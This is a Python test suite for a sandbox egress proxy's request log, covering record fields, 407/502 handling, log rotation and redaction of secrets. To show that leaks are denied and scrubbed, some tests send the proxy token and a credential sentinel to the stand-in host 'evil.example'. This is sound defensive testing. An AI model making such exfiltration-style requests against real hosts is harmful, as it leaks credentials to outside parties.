"""The request log as the real proxy process writes it, against the local "internet" (an origin
on 127.0.0.1 reached through the upstream-proxy setting): one record per decision — allowed and
denied, intercepted and tunnelled, plain and TLS, the 407s and the 502s — with the schema's
fields, bounded on disk, and never a secret, token, sentinel, cookie or query value (a scanner
reads every byte the proxy wrote)."""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sbx.domain.credentials.secrets import SecretStore
from sbx.domain.egress import requestlog
from sbx.domain.egress.proxyauth import new_token
from sbx.domain.egress.proxyconfig import ProxyConfig, ProxyLimits
from sbx.domain.egress.proxycreds import CredentialSpec, Inject
from sbx.domain.kits.compose import Network, NetworkPhase, Rule
from tests.support.origin import Internet, LoopbackListener, ProxyClient, ProxyProcess

SECRET = "ghp_LogScanner-Real-Secret-0123456789"  # noqa: S105 - a test value
SENTINEL = "sbx-proxy-managed-github"
COOKIE = "session-cookie-value-7788"
QUERY = "query-value-never-logged-4455"
ALL = ("GET", "HEAD", "POST", "PATCH", "PUT", "DELETE")


def rule(host: str, kit: str, index: int, *, action: str = "allow",
         methods: tuple[str, ...] = (), paths: tuple[str, ...] = ()) -> Rule:
    return Rule(host, methods, paths, action, kit, index, "runtime",  # type: ignore[arg-type]
                f"capabilities[{index}]")


NETWORK = Network(2, NetworkPhase(), NetworkPhase(
    allow=(rule("github.com", "./gh", 0), rule("api.github.com", "./gh", 0, methods=ALL),
           rule("example.org", "./hello", 1)),
    deny=(rule("api.github.com", "./gh", 1, action="deny", methods=("DELETE",),
               paths=("/repos/**",)),)), False, ())
CREDENTIALS = (CredentialSpec("github", "runtime", (Inject("api.github.com"),),
                              sentinel=SENTINEL, env="GH_TOKEN", kit="./gh", index=2),)


def start(directory: Path, internet: Internet, *, token: str | None = None,
          upstream: str | None = None, limits: ProxyLimits | None = None,
          sandbox: str | None = None) -> ProxyProcess:
    home = directory / "state"
    SecretStore(home).set("github", SECRET)
    config = ProxyConfig(
        run_id=f"run-{directory.name}", state_home=home, audit_log=home / "audit.jsonl",
        network=NETWORK, credentials=CREDENTIALS,
        upstream_proxy=upstream or internet.upstream.url,
        upstream_ca_file=internet.pki.ca_file, explain_command="sbx explain ./hello",
        limits=limits or ProxyLimits(), sandbox=sandbox,
        request_log=directory / "log" / requestlog.LOG_FILE)
    return ProxyProcess(config, directory / "proxy.json", client_token=token)


def records(proxy: ProxyProcess, *, wait_for: int = 0) -> list[dict[str, Any]]:
    """The log's records, waiting (bounded) until at least ``wait_for`` are there: a tunnel's
    record is written as the proxy sees it close."""
    directory = Path(proxy.config.request_log).parent
    deadline = time.monotonic() + 10
    while True:
        found = requestlog.read_records(directory)
        if len(found.records) >= wait_for or time.monotonic() > deadline:
            assert found.skipped == 0
            return found.records
        time.sleep(0.05)


@pytest.fixture
def logged(tmp_path: Path, internet: Internet) -> Iterator[ProxyProcess]:
    internet.origin.clear()
    proxy = start(tmp_path, internet, sandbox="dev")
    yield proxy
    proxy.stop()


def test_every_decision_is_one_record_with_the_schemas_fields(logged: ProxyProcess) -> None:
    client = logged.client()
    answers = client.https("api.github.com", [
        ("GET", f"/user?token={QUERY}"), ("DELETE", "/repos/o/r")],
        headers=[("Authorization", f"Bearer {SENTINEL}"), ("Cookie", f"session={COOKIE}")])
    assert [a.status for a in answers] == [200, 403]
    [tunnelled] = client.https("github.com", [("GET", "/bytes/1000")])
    assert tunnelled.status == 200 and len(tunnelled.body) == 1000
    [refused] = client.https("evil.example", [("GET", "/")])
    assert refused.status == 403
    plain = client.http("GET", f"http://example.org/plain?q={QUERY}")
    assert plain.status == 200
    got = records(logged, wait_for=5)
    for record in got:
        assert set(record) == set(requestlog.FIELDS), record
        assert record["v"] == requestlog.SCHEMA_VERSION
        assert record["sandbox"] == "dev" and record["run_id"] == logged.config.run_id
        assert record["phase"] == "runtime"
        assert record["time"].endswith("Z")
    by = {(r["mode"], r["host"], r["method"]): r for r in got}
    allowed = by[("intercepted", "api.github.com", "GET")]
    assert (allowed["decision"], allowed["status"], allowed["path"], allowed["code"]) == \
        ("allowed", 200, "/user", "allowed")
    assert allowed["credentials"] == ["github"]
    assert allowed["rule"] == {"source": "kit", "kit": "./gh", "index": 0, "phase": "runtime",
                               "action": "allow", "at": "capabilities[0]",
                               "text": "./gh capabilities[0] runtime.allow: api.github.com "
                                       "GET,HEAD,POST,PATCH,PUT,DELETE"}
    assert allowed["bytes_down"] > 0 and allowed["duration_ms"] > 0
    denied = by[("intercepted", "api.github.com", "DELETE")]
    assert (denied["decision"], denied["status"], denied["code"], denied["reason"]) == \
        ("denied", 403, "deny_rule", "egress_denied")
    assert denied["rule"]["action"] == "deny" and denied["rule"]["index"] == 1
    tunnel = by[("tunnel", "github.com", None)]
    assert (tunnel["decision"], tunnel["path"], tunnel["status"]) == ("allowed", None, None)
    assert tunnel["bytes_down"] > 1000 and tunnel["bytes_up"] > 0  # TLS, both ways
    assert tunnel["rule"]["kit"] == "./gh"
    connect = by[("connect", "evil.example", None)]
    assert (connect["decision"], connect["code"], connect["rule"], connect["port"]) == \
        ("denied", "default_deny", None, 443)
    http = by[("plain", "example.org", "GET")]
    assert (http["scheme"], http["path"], http["status"]) == ("http", "/plain", 200)


def test_407_and_502_are_recorded_and_the_502_audited(tmp_path: Path,
                                                      internet: Internet) -> None:
    token = new_token()
    with LoopbackListener() as dead:  # a closed upstream: nothing accepts there
        dead_port = dead.port
    proxy = start(tmp_path, internet, token=token,
                  upstream=f"http://127.0.0.1:{dead_port}")
    try:
        anonymous = ProxyClient(proxy.port, timeout=10)
        sock, answer = anonymous.connect("api.github.com")
        assert sock is None and answer.status == 407
        sock, answer = proxy.client().connect("github.com")
        assert sock is None and answer.status == 502
        assert "upstream_proxy_unreachable" in answer.body.decode()
        assert "explain: sbx explain upstream_proxy_unreachable" in answer.body.decode()
        got = records(proxy, wait_for=2)
        audited = proxy.audit()
    finally:
        proxy.stop()
    auth, failed = got
    assert (auth["decision"], auth["status"], auth["code"], auth["reason"], auth["mode"]) == \
        ("denied", 407, "proxy_auth_missing", "proxy_client_refused", "connect")
    assert (failed["decision"], failed["status"], failed["code"], failed["reason"]) == \
        ("failed", 502, "upstream_proxy_unreachable", "proxy_failed")
    assert failed["cause"]["kind"] == "connect"
    assert f"127.0.0.1:{dead_port}" in failed["cause"]["detail"]
    events = [(e["event_type"], e["details"]["code"]) for e in audited
              if e["event_type"].startswith("egress_")]
    assert ("egress_failed", "upstream_proxy_unreachable") in events
    assert ("egress_denied", "proxy_auth_missing") in events
    assert token not in json.dumps(got) + json.dumps(audited)


def test_no_secret_token_sentinel_cookie_or_query_value_reaches_the_log(
        tmp_path: Path, internet: Internet) -> None:
    token = new_token()
    proxy = start(tmp_path, internet, token=token)
    try:
        client = proxy.client()
        headers = [("Authorization", f"Bearer {SENTINEL}"), ("Cookie", f"a={COOKIE}"),
                   ("X-Secret", SECRET)]
        client.https("api.github.com", [
            ("GET", f"/repos/o/r?access_token={QUERY}&{QUERY}=1"),
            ("GET", f"/x/{SENTINEL}/y"), ("GET", f"/t/{token}/y"), ("POST", f"/echo?{QUERY}"),
            ("DELETE", f"/repos/o/r?{QUERY}")], headers=headers)
        client.https("github.com", [("GET", f"/?{QUERY}")], headers=headers)
        client.http("GET", f"http://example.org/?c={COOKIE}", headers=headers)
        client.http("GET", f"http://evil.example/{SENTINEL}?{QUERY}", headers=headers)
        # the sandbox knows its proxy token and its sentinels: written into a denied
        # request's path they reach neither the request log nor the audit log
        client.http("GET", f"http://evil.example/t/{token}/{SENTINEL}", headers=headers)
        ProxyClient(proxy.port, timeout=10).http("GET", f"http://example.org/?{QUERY}",
                                                 headers=headers)
        got = records(proxy, wait_for=8)
    finally:
        proxy.stop()
    assert len(got) >= 8
    written = b"".join(p.read_bytes() for p in (tmp_path / "log").iterdir())
    audited = (tmp_path / "state" / "audit.jsonl").read_bytes()
    assert b"evil.example" in audited  # the denials were audited, scrubbed
    for value in (SECRET, SENTINEL, token, COOKIE, QUERY):
        assert value.encode() not in written, value
    for value in (SECRET, SENTINEL, token):
        assert value.encode() not in audited, value
    paths = {r["path"] for r in got}
    assert "/x/[redacted]/y" in paths and "/repos/o/r" in paths
    assert "/t/[redacted]/y" in paths and "/t/[redacted]/[redacted]" in paths


def test_the_log_is_bounded_on_disk_by_rotation(tmp_path: Path, internet: Internet) -> None:
    limits = ProxyLimits(log_segment_bytes=4096, log_segments=2)
    proxy = start(tmp_path, internet, limits=limits)
    try:
        client = proxy.client()
        for batch in range(8):  # ~60 records of ~500 bytes: several rotations
            client.https("api.github.com", [("GET", f"/batch/{batch}/{i}") for i in range(8)])
        # A request's record is written once its answer ended, which the client may see first.
        deadline = time.monotonic() + 10
        got = records(proxy, wait_for=1)
        while got[-1]["path"] != "/batch/7/7" and time.monotonic() < deadline:
            time.sleep(0.05)
            got = records(proxy, wait_for=1)
    finally:
        proxy.stop()
    files = sorted(p.name for p in (tmp_path / "log").iterdir())
    assert files == [requestlog.LOG_FILE, f"{requestlog.LOG_FILE}.1"]
    sizes = [os.path.getsize(tmp_path / "log" / name) for name in files]
    assert all(size <= 4096 for size in sizes), sizes
    assert got and got[-1]["path"] == "/batch/7/7"  # the newest survive, oldest first
    assert len(got) < 64
